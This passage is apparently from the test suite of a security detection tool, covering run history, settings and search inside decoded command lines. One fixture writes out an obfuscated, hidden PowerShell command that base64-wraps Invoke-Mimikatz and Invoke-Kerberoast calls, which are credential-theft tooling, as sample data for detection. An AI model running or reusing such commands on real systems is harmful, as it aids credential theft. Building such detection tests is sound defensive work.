        expect(await stores.state.recentRuns(10)).toEqual([r3, r2, r1b]);
        // Partitions of one run are separate reports.
        const r1p = { ...r1, partition: { index: 1, count: 2 } };
        await stores.state.recordRun(r1p);
        expect(await stores.state.recentRuns(10)).toHaveLength(4);
      });

      // Issue 18: a run whose host was killed never appeared in the history.
      it('lists a run that never finished: running while fresh, then aborted', async () => {
        const now = Date.now();
        const at = (ms: number) => new Date(ms).toISOString();
        const fresh = runReport({
          runId: 'fresh',
          status: 'running',
          finishedAt: at(now - 60_000),
        });
        const dead = runReport({
          runId: 'dead',
          status: 'running',
          finishedAt: at(now - 3 * 3_600_000),
        });
        for (const r of [fresh, dead]) await stores.state.recordRun(r);
        const runs = await stores.state.recentRuns(10);
        expect(runs.map((r) => [r.runId, r.status])).toEqual([
          ['fresh', 'running'],
          ['dead', 'aborted'],
        ]);
        expect(runs[1]!.errors.at(-1)).toBe(UNFINISHED_RUN_ERROR);
        // The outcome replaces the running entry.
        await stores.state.recordRun({ ...fresh, status: 'succeeded' });
        expect((await stores.state.recentRuns(1))[0]).toMatchObject({
          runId: 'fresh',
          status: 'succeeded',
        });
      });
    });

    describeNotificationOutboxContract(() => stores);

    // -----------------------------------------------------------------------------------------
    describe('SettingsStore', () => {
      it('starts from the defaults and persists partial updates', async () => {
        const d = await stores.settings.get();
        expect(d).toMatchObject({
          threshold: DEFAULT_THRESHOLD,
          interval: DEFAULT_INTERVAL,
          lookback: DEFAULT_LOOKBACK,
        });
        expect(d.prevalence_lookback).toMatch(/^\d+[smhd]$/);
        expect(['model', 'elastic', 'blend']).toContain(d.score_source);
        expect(d.indices.length).toBeGreaterThan(0);
        const u = await stores.settings.update({ threshold: 0.8, score_source: 'blend' });
        expect(u).toEqual({ ...d, threshold: 0.8, score_source: 'blend' });
        expect(await stores.settings.get()).toEqual(u);
        const u2 = await stores.settings.update({ lookback: '2h' });
        expect(u2).toEqual({ ...u, lookback: '2h' });
        expect(await stores.settings.update({})).toEqual(u2);
      });
    });

    // -----------------------------------------------------------------------------------------
    describe('CommunityStore search in decoded commands', () => {
      it('finds words that appear only inside an encoded command, at any depth', async () => {
        const utf16 = (t: string) => Buffer.from(t, 'utf16le').toString('base64');
        const inner = Buffer.from('Invoke-Kerberoast -Output hashcat', 'utf8').toString('base64');
        const script = `IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${inner}'))); Invoke-Mimikatz`;
        const encoded = fixtureCommunity({
          tag: 'enc',
          events: [
            fixtureEvent({
              id: 'enc-a',
              time: '2024-03-01T10:01:00.000Z',
              parent: 'cmd.exe',
              child: 'powershell.exe',
              cmd: `powershell.exe -nop -w hidden \u2013EnC ${utf16(script)}`,
            }),
          ],
        });
        const plain = fixtureCommunity({
          tag: 'plain',
          window: { start: '2024-03-01T12:00:00.000Z', end: '2024-03-01T12:45:00.000Z' },
        });
        await stores.communities.writeCommunities([encoded, plain], {
          runId: 'run-dec',
          detectedAt: '2024-03-01T13:00:00.000Z',
          replaced: [],
        });
        const ids = async (q: string) =>
          (await stores.communities.list(query({ q, per_page: 100 }))).items.map((i) => i.id);
        // Only in the decoded script, in any case, and in a base64 string inside it.
        expect(await ids('invoke-MIMIKATZ')).toEqual([encoded.id]);
        expect(await ids('Kerberoast')).toEqual([encoded.id]);
        expect(await ids('mimikatz hashcat')).toEqual([encoded.id]);
        // The raw command line is still searched; a decoded word does not match the other one.
        expect(await ids('hidden')).toEqual([encoded.id]);
        expect(await ids('mimikatz notthere')).toEqual([]);
        expect((await ids('whoami')).includes(encoded.id)).toBe(false);
      });

      // Issue 18: 250 words took minutes on DuckDB (planning grew with the words).
      it('matches each word in any event of a community, many words in one pass', async () => {
        const c = fixtureCommunity({ tag: 'multi' });
        const other = fixtureCommunity({ tag: 'other', host: 'ws02.example.local' });
        await stores.communities.writeCommunities([c, other], {
          runId: 'run-multi',
          detectedAt: '2024-03-01T13:00:00.000Z',
          replaced: [],
        });
        const ids = async (q: string) =>
          (await stores.communities.list(query({ q, per_page: 100 }))).items.map((i) => i.id);
        // Words from different events (and from a parent command line) of one community.
        expect((await ids('whoami DOMAIN report.docm')).sort()).toEqual([c.id, other.id].sort());
        expect(await ids('whoami 10.0.0.5/multi')).toEqual([c.id]);
        // The end of a command line and the start of its parent's are not one text.
        expect(await ids('/all"c:')).toEqual([]);
        // Past the routes' bound on words (the store must not depend on it to stay fast).
        const raw = async (q: string) =>
          (await stores.communities.list({ ...query({ per_page: 100 }), q })).items.map(
            (i) => i.id,
          );
        const many = Array.from({ length: 250 }, (_, i) => ['whoami', 'domain', 'multi'][i % 3]);
        const t0 = Date.now();
        expect(await raw(many.join(' '))).toEqual([c.id]);
        expect(await raw([...many, 'notthere'].join(' '))).toEqual([]);
        // Generous: seconds of planning per word before; a single pass now.
        expect(Date.now() - t0).toBeLessThan(20_000);
      });
    });
  });
}
